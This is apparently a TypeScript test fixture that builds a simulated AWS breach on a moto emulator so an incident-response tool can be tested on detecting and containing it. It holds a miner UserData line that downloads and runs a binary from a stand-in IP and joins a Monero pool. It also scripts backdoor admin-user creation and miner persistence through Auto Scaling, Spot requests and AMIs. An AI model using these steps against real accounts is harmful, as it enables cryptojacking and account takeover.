/**
 * The one attack every irctl test, benchmark and drill builds on a live moto server: a stolen
 * access key (IAM user svc-build) that, inside a time window, creates a backdoor admin user
 * and launches GPU miners in three regions — one behind a load balancer with an Elastic IP, an
 * instance profile and an AMI (us-east-1), one in an Auto Scaling group (us-east-1), one with
 * two ENIs, an AMI and a snapshot (eu-west-1), one from a persistent Spot request
 * (eu-west-1), one stopped (ap-southeast-2) — with an attacker key pair in each region. A
 * platform team's key pair, servers and CI user, before and inside the window, are the
 * control: nothing of theirs may be attributed or contained. Each region's VPC gets the
 * isolation and transition groups the stacks deploy, except eu-west-1, where irctl must
 * create them itself.
 */
import { AutoScalingClient, CreateAutoScalingGroupCommand } from '@aws-sdk/client-auto-scaling';
import {
  AllocateAddressCommand,
  AssociateAddressCommand,
  AuthorizeSecurityGroupIngressCommand,
  CreateImageCommand,
  CreateKeyPairCommand,
  CreateLaunchTemplateCommand,
  CreateSecurityGroupCommand,
  CreateSubnetCommand,
  CreateVpcCommand,
  EC2Client,
  RequestSpotInstancesCommand,
  RevokeSecurityGroupEgressCommand,
  RunInstancesCommand,
  DescribeSpotInstanceRequestsCommand,
  DescribeInstancesCommand,
  ModifyInstanceAttributeCommand,
  ModifyNetworkInterfaceAttributeCommand,
  CreateSnapshotCommand,
  StopInstancesCommand,
} from '@aws-sdk/client-ec2';
import { CreateTargetGroupCommand, ElasticLoadBalancingV2Client, RegisterTargetsCommand } from '@aws-sdk/client-elastic-load-balancing-v2';
import {
  AddRoleToInstanceProfileCommand,
  AttachUserPolicyCommand,
  CreateAccessKeyCommand,
  CreateInstanceProfileCommand,
  CreateLoginProfileCommand,
  CreatePolicyCommand,
  CreateRoleCommand,
  CreateUserCommand,
  IAMClient,
  PutUserPolicyCommand,
} from '@aws-sdk/client-iam';
import { DescribeAutoScalingGroupsCommand } from '@aws-sdk/client-auto-scaling';
import { MANAGED_BY, SECURITY_GROUPS, TAGS } from '../shared/names';
import { MOTO_CREDENTIALS } from './moto';

/** moto's default account. */
export const SCENARIO_ACCOUNT = '123456789012';
/** Regions the attacker used. */
export const SCENARIO_REGIONS = ['us-east-1', 'eu-west-1', 'ap-southeast-2'] as const;
export type ScenarioRegion = (typeof SCENARIO_REGIONS)[number];
/** What the miners run: a downloader and a stratum pool, as attackers' UserData does. */
export const MINER_USER_DATA = '#!/bin/bash\ncurl -s http://203.0.113.7/xmrig -o /tmp/x && chmod +x /tmp/x\n/tmp/x -o stratum+tcp://pool.supportxmr.com:3333 -u 4AbC\n';
/** Attacker key pair name, in every attacker region. */
export const MINER_KEY = 'miner-key';

/** The names the scenario gives what it creates: the drill and tests find its resources by them. */
export const SCENARIO_NAMES = {
  attackerUser: 'svc-build',
  backdoorUser: 'backup-admin',
  backdoorPolicy: 'ops-admin',
  instanceRole: 'miner-node',
  pivotRole: 'ops-automation',
  minerKey: MINER_KEY,
  minerType: 'p3.2xlarge',
  launchTemplate: 'miner-lt',
  asgName: 'miner-asg',
  targetGroup: 'miner-tg',
  controlUser: 'ci-deployer',
  controlKey: 'ops-deploy',
} as const;

/** Kinds of attacker instance: each exercises a different containment path. */
export type MinerKind = 'plain' | 'asg' | 'two-eni' | 'spot' | 'stopped';

/** IDs of everything the scenario created. */
export interface AttackScenario {
  /** Starts after the legitimate team's earlier work, ends a minute after seeding. */
  readonly window: { readonly start: Date; readonly end: Date };
  /** The IAM user whose stolen access key the attacker uses. */
  readonly attackerUser: string;
  readonly attackerUserArn: string;
  readonly attackerKeyId: string;
  /** The admin user the attacker creates to come back (key, console password, policies). */
  readonly backdoorUser: string;
  readonly backdoorKeyId: string;
  /** The customer-managed admin policy attached to the backdoor user. */
  readonly backdoorPolicyArn: string;
  /** Role behind the instance profile of the us-east-1 plain miner. */
  readonly instanceRole: string;
  /** The team's role the stolen key may assume (created before the window): the attacker's role pivot. */
  readonly pivotRole: string;
  /** Every attacker instance, with its region. */
  readonly instances: ReadonlyArray<{ readonly region: ScenarioRegion; readonly instanceId: string; readonly kind: MinerKind }>;
  /** The miner the attacker launched by hand in each region (us-east-1 plain, eu-west-1 two ENIs, ap-southeast-2 stopped). */
  readonly minerInstances: Readonly<Record<ScenarioRegion, string>>;
  readonly asgName: string;
  readonly asgInstance: string;
  readonly targetGroupArn: string;
  /** Elastic IP on the us-east-1 plain miner. */
  readonly allocationId: string;
  /** The second ENI of the eu-west-1 miner. */
  readonly secondEni: string;
  /** Persistent Spot request in eu-west-1, and the instance moto fulfilled it with. */
  readonly spotRequestId: string;
  readonly spotInstanceId: string;
  readonly keyPairs: ReadonlyArray<{ readonly region: ScenarioRegion; readonly name: string; readonly keyPairId: string }>;
  readonly images: ReadonlyArray<{ readonly region: ScenarioRegion; readonly imageId: string }>;
  /** The us-east-1 image ("miner-golden"). */
  readonly imageId: string;
  /** Snapshot the attacker took of the eu-west-1 miner's root volume, and that volume. */
  readonly snapshotId: string;
  readonly euVolume: string;
  readonly vpcs: Readonly<Record<ScenarioRegion, string>>;
  /** A platform team's resources, before and inside the window: never attributed to the attacker. */
  readonly control: { readonly keyName: string; readonly instanceBeforeWindow: string; readonly instanceInWindow: string; readonly userName: string };
}

const AMI = 'ami-12c6146b'; // present in moto's default AMI set in every region
const MINER_TYPE = SCENARIO_NAMES.minerType;

function clientConfig(endpoint: string, region: string) {
  return { endpoint, region, credentials: MOTO_CREDENTIALS };
}

/** Wait until the wall clock has moved past the current second (moto stamps whole seconds). */
async function nextSecond(): Promise<Date> {
  const next = Math.floor(Date.now() / 1000) * 1000 + 1000;
  await new Promise((r) => setTimeout(r, next - Date.now() + 20));
  return new Date(next);
}

const ADMIN = JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }] });

/**
 * Build the scenario on the moto server at `endpoint` (a fresh or reset one). The legitimate
 * team's key pair, server and CI user exist before the window; the attacker's work is inside
 * it, and so is one more server the team launches with its own key pair.
 */
export async function seedAttack(endpoint: string): Promise<AttackScenario> {
  const iam = new IAMClient(clientConfig(endpoint, 'us-east-1'));
  const east = new EC2Client(clientConfig(endpoint, 'us-east-1'));
  const ec2 = (region: string) => (region === 'us-east-1' ? east : new EC2Client(clientConfig(endpoint, region)));
  const controlLaunch = async () =>
    (
      await east.send(
        new RunInstancesCommand({
          ImageId: AMI, InstanceType: 't3.micro', MinCount: 1, MaxCount: 1, KeyName: SCENARIO_NAMES.controlKey,
          TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'Owner', Value: 'platform-team' }] }],
        }),
      )
    ).Instances![0].InstanceId!;

  // Before the window: the platform team's key pair and server, a CI user, and the user whose key will be stolen.
  await east.send(new CreateKeyPairCommand({ KeyName: SCENARIO_NAMES.controlKey }));
  const instanceBeforeWindow = await controlLaunch();
  await iam.send(new CreateUserCommand({ UserName: SCENARIO_NAMES.controlUser }));
  await iam.send(new CreateAccessKeyCommand({ UserName: SCENARIO_NAMES.controlUser }));
  const attackerUser = SCENARIO_NAMES.attackerUser;
  const attackerUserArn = (await iam.send(new CreateUserCommand({ UserName: attackerUser }))).User!.Arn!;
  const attackerKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: attackerUser }))).AccessKey!.AccessKeyId!;

  // The team's automation role, assumable from the account: the stolen key pivots into it (sts:AssumeRole).
  const pivotRole = SCENARIO_NAMES.pivotRole;
  await iam.send(new CreateRoleCommand({ RoleName: pivotRole, AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${SCENARIO_ACCOUNT}:root` }, Action: 'sts:AssumeRole' }] }) }));

  const start = await nextSecond();

  // In the window, with svc-build's key: a backdoor admin and a role for the miners.
  const backdoorUser = SCENARIO_NAMES.backdoorUser;
  await iam.send(new CreateUserCommand({ UserName: backdoorUser }));
  const backdoorKeyId = (await iam.send(new CreateAccessKeyCommand({ UserName: backdoorUser }))).AccessKey!.AccessKeyId!;
  await iam.send(new CreateLoginProfileCommand({ UserName: backdoorUser, Password: 'Backdoor-Passw0rd!' }));
  await iam.send(new PutUserPolicyCommand({ UserName: backdoorUser, PolicyName: 'admin', PolicyDocument: ADMIN }));
  // moto loads AWS managed policies only on request (slow); a customer-managed admin policy is what attackers create anyway.
  const backdoorPolicyArn = (await iam.send(new CreatePolicyCommand({ PolicyName: SCENARIO_NAMES.backdoorPolicy, PolicyDocument: ADMIN }))).Policy!.Arn!;
  await iam.send(new AttachUserPolicyCommand({ UserName: backdoorUser, PolicyArn: backdoorPolicyArn }));
  const instanceRole = SCENARIO_NAMES.instanceRole;
  await iam.send(new CreateRoleCommand({ RoleName: instanceRole, AssumeRolePolicyDocument: JSON.stringify({ Version: '2012-10-17', Statement: [{ Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' }] }) }));
  await iam.send(new CreateInstanceProfileCommand({ InstanceProfileName: instanceRole }));
  await iam.send(new AddRoleToInstanceProfileCommand({ InstanceProfileName: instanceRole, RoleName: instanceRole }));

  const instances: Array<AttackScenario['instances'][number]> = [];
  const keyPairs: Array<{ region: ScenarioRegion; name: string; keyPairId: string }> = [];
  const images: Array<{ region: ScenarioRegion; imageId: string }> = [];
  const vpcs = {} as Record<ScenarioRegion, string>;
  const network = {} as Record<ScenarioRegion, MinerNetwork>;
  for (const region of SCENARIO_REGIONS) {
    // eu-west-1's VPC lacks the stacks' groups: irctl must create them itself there.
    network[region] = await prepareMinerNetwork(endpoint, region, { stackGroups: region !== 'eu-west-1' });
    vpcs[region] = network[region].vpcId;
    keyPairs.push({ region, name: MINER_KEY, keyPairId: network[region].keyPairId });
  }
  const run = async (region: ScenarioRegion, extra: Record<string, unknown> = {}) => (await launchMiners(endpoint, network[region], 1, extra))[0];

  // us-east-1: a miner with the instance profile, an Elastic IP and a load balancer registration, imaged.
  const plain = await run('us-east-1', { IamInstanceProfile: { Name: instanceRole } });
  instances.push({ region: 'us-east-1', instanceId: plain, kind: 'plain' });
  const allocationId = (await east.send(new AllocateAddressCommand({ Domain: 'vpc' }))).AllocationId!;
  await east.send(new AssociateAddressCommand({ AllocationId: allocationId, InstanceId: plain }));
  const elb = new ElasticLoadBalancingV2Client(clientConfig(endpoint, 'us-east-1'));
  const targetGroupArn = (await elb.send(new CreateTargetGroupCommand({ Name: SCENARIO_NAMES.targetGroup, Protocol: 'HTTP', Port: 80, VpcId: network['us-east-1'].vpcId, TargetType: 'instance' }))).TargetGroups![0].TargetGroupArn!;
  await elb.send(new RegisterTargetsCommand({ TargetGroupArn: targetGroupArn, Targets: [{ Id: plain, Port: 80 }] }));
  const imageId = (await east.send(new CreateImageCommand({ InstanceId: plain, Name: 'miner-golden' }))).ImageId!;
  images.push({ region: 'us-east-1', imageId });

  // us-east-1: an Auto Scaling group keeping one miner alive, from a template following $Latest.
  await east.send(
    new CreateLaunchTemplateCommand({
      LaunchTemplateName: SCENARIO_NAMES.launchTemplate,
      LaunchTemplateData: { ImageId: AMI, InstanceType: MINER_TYPE, KeyName: MINER_KEY, SecurityGroupIds: [network['us-east-1'].workloadSg] },
    }),
  );
  const asgName = SCENARIO_NAMES.asgName;
  const autoscaling = new AutoScalingClient(clientConfig(endpoint, 'us-east-1'));
  await autoscaling.send(
    new CreateAutoScalingGroupCommand({
      AutoScalingGroupName: asgName,
      LaunchTemplate: { LaunchTemplateName: SCENARIO_NAMES.launchTemplate, Version: '$Latest' },
      MinSize: 1,
      MaxSize: 3,
      DesiredCapacity: 1,
      VPCZoneIdentifier: network['us-east-1'].subnetId,
    }),
  );
  const asgInstance = (await autoscaling.send(new DescribeAutoScalingGroupsCommand({ AutoScalingGroupNames: [asgName] }))).AutoScalingGroups![0].Instances![0].InstanceId!;
  instances.push({ region: 'us-east-1', instanceId: asgInstance, kind: 'asg' });

  // eu-west-1: a miner with two ENIs, imaged, whose root volume the attacker also snapshots.
  const eu = ec2('eu-west-1');
  const { subnetId: euSubnet, workloadSg: euSg } = network['eu-west-1'];
  const twoEni = await run('eu-west-1', {
    NetworkInterfaces: [
      { DeviceIndex: 0, SubnetId: euSubnet, Groups: [euSg] },
      { DeviceIndex: 1, SubnetId: euSubnet, Groups: [euSg] },
    ],
  });
  instances.push({ region: 'eu-west-1', instanceId: twoEni, kind: 'two-eni' });
  images.push({ region: 'eu-west-1', imageId: (await eu.send(new CreateImageCommand({ InstanceId: twoEni, Name: 'miner-image' }))).ImageId! });
  const euMiner = (await eu.send(new DescribeInstancesCommand({ InstanceIds: [twoEni] }))).Reservations![0].Instances![0];
  const secondEni = euMiner.NetworkInterfaces!.find((n) => n.Attachment?.DeviceIndex === 1)!.NetworkInterfaceId!;
  const euVolume = euMiner.BlockDeviceMappings![0].Ebs!.VolumeId!;
  const snapshotId = (await eu.send(new CreateSnapshotCommand({ VolumeId: euVolume, Description: 'backup' }))).SnapshotId!;

  // eu-west-1: a persistent Spot request (moto fulfils it at once).
  const spot = await eu.send(
    new RequestSpotInstancesCommand({
      InstanceCount: 1,
      Type: 'persistent',
      SpotPrice: '3.00',
      LaunchSpecification: { ImageId: AMI, InstanceType: MINER_TYPE, KeyName: MINER_KEY, SubnetId: euSubnet, SecurityGroupIds: [euSg] },
    }),
  );
  const spotRequestId = spot.SpotInstanceRequests![0].SpotInstanceRequestId!;
  const fulfilled = (await eu.send(new DescribeSpotInstanceRequestsCommand({ SpotInstanceRequestIds: [spotRequestId] }))).SpotInstanceRequests![0];
  if (!fulfilled.InstanceId) throw new Error(`moto did not fulfil Spot request ${spotRequestId}; the scenario needs its instance`);
  const spotInstanceId = fulfilled.InstanceId;
  instances.push({ region: 'eu-west-1', instanceId: spotInstanceId, kind: 'spot' });

  // ap-southeast-2: a miner the attacker stopped (kept for later, still billed for its volumes).
  const stopped = await run('ap-southeast-2');
  await ec2('ap-southeast-2').send(new StopInstancesCommand({ InstanceIds: [stopped] }));
  instances.push({ region: 'ap-southeast-2', instanceId: stopped, kind: 'stopped' });

  // Also in the window: a platform engineer launches a server with the team's own key pair.
  const instanceInWindow = await controlLaunch();

  for (const { region, instanceId } of instances) await normalizeMotoGroups(ec2(region), instanceId);
  return {
    window: { start, end: new Date(Date.now() + 60_000) },
    attackerUser,
    attackerUserArn,
    attackerKeyId,
    backdoorUser,
    backdoorKeyId,
    backdoorPolicyArn,
    instanceRole,
    pivotRole,
    instances,
    minerInstances: { 'us-east-1': plain, 'eu-west-1': twoEni, 'ap-southeast-2': stopped },
    asgName,
    asgInstance,
    targetGroupArn,
    allocationId,
    secondEni,
    spotRequestId,
    spotInstanceId,
    keyPairs,
    images,
    imageId,
    snapshotId,
    euVolume,
    vpcs,
    control: { keyName: SCENARIO_NAMES.controlKey, instanceBeforeWindow, instanceInWindow, userName: SCENARIO_NAMES.controlUser },
  };
}

/** A region's VPC, subnet and wide-open group the attacker's miners run in. */
export interface MinerNetwork {
  readonly region: string;
  readonly vpcId: string;
  readonly subnetId: string;
  readonly workloadSg: string;
  /** ID of the attacker's key pair in this region (what CreateKeyPair's CloudTrail record carries). */
  readonly keyPairId: string;
}

/**
 * The attacker's footprint in one region, as the scenario builds it: a VPC with a subnet, a
 * group open to the world and the attacker key pair; with `stackGroups`, also the isolation
 * and transition groups the stacks deploy there.
 */
export async function prepareMinerNetwork(endpoint: string, region: string, opts: { stackGroups: boolean }): Promise<MinerNetwork> {
  const client = new EC2Client(clientConfig(endpoint, region));
  const vpcId = (await client.send(new CreateVpcCommand({ CidrBlock: '10.20.0.0/16' }))).Vpc!.VpcId!;
  const subnetId = (await client.send(new CreateSubnetCommand({ VpcId: vpcId, CidrBlock: '10.20.0.0/20', AvailabilityZone: `${region}a` }))).Subnet!.SubnetId!;
  const workloadSg = (await client.send(new CreateSecurityGroupCommand({ VpcId: vpcId, GroupName: 'miner-open', Description: 'attacker: all open' }))).GroupId!;
  await client.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: workloadSg, IpPermissions: [{ IpProtocol: 'tcp', FromPort: 22, ToPort: 22, IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
  if (opts.stackGroups) await deployIsolationGroups(client, vpcId);
  const keyPairId = (await client.send(new CreateKeyPairCommand({ KeyName: MINER_KEY }))).KeyPairId!;
  return { region, vpcId, subnetId, workloadSg, keyPairId };
}

/** Launch `count` of the scenario's miners (GPU type, attacker key pair, pool UserData) into `network`. */
export async function launchMiners(endpoint: string, network: MinerNetwork, count: number, extra: Record<string, unknown> = {}): Promise<string[]> {
  const out = await new EC2Client(clientConfig(endpoint, network.region)).send(
    new RunInstancesCommand({
      ImageId: AMI,
      InstanceType: MINER_TYPE,
      MinCount: count,
      MaxCount: count,
      KeyName: MINER_KEY,
      UserData: Buffer.from(MINER_USER_DATA).toString('base64'),
      ...(extra.NetworkInterfaces ? {} : { SubnetId: network.subnetId, SecurityGroupIds: [network.workloadSg] }),
      ...extra,
    }),
  );
  return out.Instances!.map((i) => i.InstanceId!);
}

/** The groups `stacks/` deploys in each workload VPC (tagged, deterministic names). */
export async function deployIsolationGroups(ec2: EC2Client, vpcId: string): Promise<void> {
  for (const purpose of ['isolation', 'transition'] as const) {
    const groupId = (
      await ec2.send(
        new CreateSecurityGroupCommand({
          VpcId: vpcId,
          GroupName: SECURITY_GROUPS[purpose],
          Description: `ir ${purpose}`,
          TagSpecifications: [{ ResourceType: 'security-group', Tags: [{ Key: TAGS.isolationRole, Value: purpose }, { Key: TAGS.managedBy, Value: MANAGED_BY }] }],
        }),
      )
    ).GroupId!;
    if (purpose === 'isolation') {
      await ec2.send(new RevokeSecurityGroupEgressCommand({ GroupId: groupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }] }] }));
    } else {
      await ec2.send(new AuthorizeSecurityGroupIngressCommand({ GroupId: groupId, IpPermissions: [{ IpProtocol: '-1', IpRanges: [{ CidrIp: '0.0.0.0/0' }], Ipv6Ranges: [{ CidrIpv6: '::/0' }] }] }));
    }
  }
}

/**
 * moto divergence: it reports an attached ENI's groups as the union of the ENI's own groups and
 * the instance's launch groups, where AWS reports only the ENI's. Left alone, a per-ENI move
 * to the isolation group would still show the launch group. A ModifyInstanceAttribute without
 * attributes makes moto clear its instance-level list (AWS would reject it; fixture only), so
 * the emulator then reports the ENI groups as AWS does.
 */
export async function normalizeMotoGroups(ec2: EC2Client, instanceId: string): Promise<void> {
  const before = (await ec2.send(new DescribeInstancesCommand({ InstanceIds: [instanceId] }))).Reservations![0].Instances![0];
  await ec2.send(new ModifyInstanceAttributeCommand({ InstanceId: instanceId }));
  for (const eni of before.NetworkInterfaces ?? []) {
    const groups = (eni.Groups ?? []).map((g) => g.GroupId!);
    await ec2.send(new ModifyNetworkInterfaceAttributeCommand({ NetworkInterfaceId: eni.NetworkInterfaceId, Groups: groups }));
  }
}
